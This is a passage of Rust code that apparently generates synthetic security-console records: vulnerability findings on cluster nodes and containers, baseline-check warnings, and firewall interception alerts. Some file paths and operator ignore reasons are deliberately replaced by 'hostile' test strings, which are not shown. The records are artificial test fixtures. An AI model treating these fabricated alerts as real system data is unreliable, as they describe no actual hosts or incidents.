        let first = at_ms - self.rng.random_range(0..7 * DAY_MS);
        let is_host = d.kind == "cve";
        let pod = if is_host {
            String::new()
        } else {
            self.pod_name(&w.app)
        };
        let mut path = if is_host {
            String::new()
        } else {
            format!(
                "/app/lib/{}-{}.jar",
                d.package.rsplit(':').next().unwrap_or(d.package),
                d.version
            )
        };
        if !is_host && let Some(h) = self.hostile(8) {
            path = h.to_string();
        }
        let short = d
            .package
            .rsplit(':')
            .next()
            .unwrap_or(d.package)
            .to_string();
        let rpm = json!({
            "ContainerName": if is_host { "" } else { w.app.as_str() },
            "ExtendField": if d.language.is_empty() { String::new() } else { format!("{{\"language\":\"{}\"}}", d.language) },
            "FullVersion": if is_host { format!("{}-{}.x86_64", d.package, d.version) } else { format!("{}:{}", d.package, d.version) },
            "ImageName": if is_host { "" } else { w.image.as_str() },
            "MatchDetail": format!("{short} version less than {}", d.fixed),
            "MatchList": [format!("{short} version less than {}", d.fixed)],
            "Name": short,
            "Path": path,
            "Pid": if is_host { String::new() } else { self.rng.random_range(1..500u32).to_string() },
            "UpdateCmd": if is_host { format!("yum update {}", d.package) } else { format!("Upgrade {} to {} or later", d.package, d.fixed) },
            "Version": d.version,
        });
        let tag = match d.kind {
            "cve" => "oval",
            other => other,
        };
        obj(json!({
            "AliasName": d.alias,
            "AuthVersion": "7",
            "Bind": true,
            "ContainerId": container,
            "ExtendContentJson": {
                "AbsolutePath": path,
                "AliasName": d.alias,
                "Description": d.desc,
                "EmgProof": "",
                "Ip": node.intranet_ip,
                "LastTs": at_ms,
                "Necessity": {
                    "Assets_factor": "1",
                    "Cvss_factor": d.cvss,
                    "Enviroment_factor": "1.5",
                    "Is_calc": "1",
                    "Status": "normal",
                    "Time_factor": "1.2",
                    "Total_score": d.score,
                },
                "Os": if is_host { "alinux" } else { "" },
                "OsRelease": if is_host { "3" } else { "" },
                "PrimaryId": id,
                "RpmEntityList": [rpm],
                "Status": "1",
                "Tag": tag,
                "Target": "",
                "cveList": d.cves,
            },
            "FirstTs": first,
            "GroupId": 9_207_613,
            "Image": if is_host { "" } else { w.image.as_str() },
            "InstanceId": node.instance_id,
            "InstanceName": node.instance_name,
            "InternetIp": node.internet_ip,
            "IntranetIp": node.intranet_ip,
            "K8sClusterId": cid,
            "K8sNamespace": if is_host { "" } else { w.namespace.as_str() },
            "K8sNodeId": node.instance_id,
            "K8sNodeName": node.node_name,
            "K8sPodName": pod,
            "LastTs": at_ms,
            "ModifyTs": at_ms,
            "Name": d.name,
            "Namespace": if is_host { "" } else { w.namespace.as_str() },
            "Necessity": d.necessity,
            "Online": true,
            "OsName": "Alibaba Cloud Linux",
            "OsVersion": "3.2104 LTS 64bit",
            "PrimaryId": id,
            "Progress": 0,
            "RaspDefend": i64::from(d.language == "java"),
            "RaspStatus": i64::from(d.language == "java"),
            "RealRisk": d.necessity == "asap",
            "RegionId": region,
            "Related": d.cves.join(","),
            "RepairTs": 0,
            "ResultCode": "",
            "ResultMessage": "",
            "RuleTag": "",
            "Status": 1,
            "Tag": tag,
            "Type": d.kind,
            "Uuid": node.uuid,
        }))
    }

    /// A default baseline check warning on a random or given cluster. `risk_id` picks the
    /// baseline when it is known.
    pub(crate) fn default_warning(
        &mut self,
        id: i64,
        cluster_id: Option<&str>,
        risk_id: Option<i64>,
        at_ms: i64,
    ) -> Warning {
        let ci = self.cluster_index(cluster_id);
        let mut pick = None;
        for _ in 0..8 {
            let risk = match risk_id.and_then(risk_def) {
                Some(r) => r,
                None => &RISKS[self.rng.random_range(0..RISKS.len())],
            };
            let check = &risk.checks[self.rng.random_range(0..risk.checks.len())];
            let c = &self.clusters[ci];
            let node = c.nodes[self.rng.random_range(0..c.nodes.len())].clone();
            let dup = self.warnings.values().any(|w| {
                w.risk_id == risk.id
                    && w.body["Uuid"] == node.uuid.as_str()
                    && w.body["CheckId"] == check.id
            });
            pick = Some((risk, check, node));
            if !dup {
                break;
            }
        }
        let Some((risk, check, node)) = pick else {
            return Warning::empty();
        };
        let c = &self.clusters[ci];
        let cid = c.cluster_id.clone();
        let (container_id, container_name) = match risk.workload {
            Some(wi) => {
                let app = c.workloads[wi].app.clone();
                (self.hex(64), self.pod_name(&app))
            }
            None => (String::new(), String::new()),
        };
        Warning {
            risk_id: risk.id,
            cluster_id: cid,
            found_ms: at_ms,
            body: obj(json!({
                "CheckId": check.id,
                "CheckWarningId": id,
                "ContainerId": container_id,
                "ContainerName": container_name,
                "ExecErrorMessage": "",
                "FixStatus": i64::from(check.fixable),
                "Item": check.item,
                "LastHandleTime": 0,
                "Level": check.level,
                "Reason": "",
                "Status": 1,
                "Type": check.kind,
                "Uuid": node.uuid,
            })),
        }
    }

    /// A reason an operator typed when ignoring a baseline item (sometimes hostile).
    pub(crate) fn ignore_reason(&mut self) -> String {
        match self.hostile(4) {
            Some(h) => h.to_string(),
            None => [
                "accepted risk: legacy workload",
                "false positive, see OPS-4411",
                "compensating control in place",
            ]
            .choose(&mut self.rng)
            .copied()
            .unwrap_or("accepted risk")
            .to_string(),
        }
    }

    /// A default firewall alert (`InterceptionHistoryList[]` item) for one rule of a cluster.
    pub(crate) fn default_interception(
        &mut self,
        id: i64,
        cluster_id: Option<&str>,
        at_ms: i64,
    ) -> Map<String, Value> {
        let ci = self.cluster_index(cluster_id);
        let c = &self.clusters[ci];
        let rule = c.rules[self.rng.random_range(0..c.rules.len())].clone();
        let src = c.workloads[rule.src].clone();
        let dst = c.workloads[rule.dst].clone();
        let (cid, cname) = (c.cluster_id.clone(), c.cluster_name.clone());
        // Sometimes the real source is not the rule's object (a debug pod in the same namespace).
        let (real_src_app, real_src_image) = if self.rng.random_ratio(1, 4) {
            (
                "debug-toolbox".to_string(),
                "docker.io/nicolaka/netshoot:v0.12".to_string(),
            )
        } else {
            (src.app.clone(), src.image.clone())
        };
        let real_src_pod = self.pod_name(&real_src_app);
        let real_dst_pod = self.pod_name(&dst.app);
        let day_start = at_ms - at_ms.rem_euclid(DAY_MS);
        let first = (at_ms - self.rng.random_range(0..3_600_000i64)).max(day_start);
        obj(json!({
            "ClusterId": cid,
            "ClusterName": cname,
            "DstAppName": dst.app,
            "DstNamespace": dst.namespace,
            "DstPort": rule.dst_port,
            "DstRuleTargetName": rule.dst_target,
            "FirstTime": first,
            "Id": id,
            "InterceptionName": "Abnormal access",
            "InterceptionType": rule.intercept_type,
            "LastTime": at_ms,
            "RealDstAppName": dst.app,
            "RealDstImageName": dst.image,
            "RealDstNamespace": dst.namespace,
            "RealDstPodName": real_dst_pod,
            "RealInterceptionType": rule.intercept_type,
            "RealSrcAppName": real_src_app,
            "RealSrcImageName": real_src_image,
            "RealSrcNamespace": src.namespace,
            "RealSrcPodName": real_src_pod,
            "RiskLevel": self.rng.random_range(1..=3i64),
            "RuleId": rule.rule_id,
            "RuleName": rule.rule_name,
            "SrcAppName": src.app,
            "SrcNamespace": src.namespace,
            "SrcRuleTargetName": rule.src_target,
            "Status": 0,
            "TryCount": self.rng.random_range(1..40i64),
        }))
    }
}
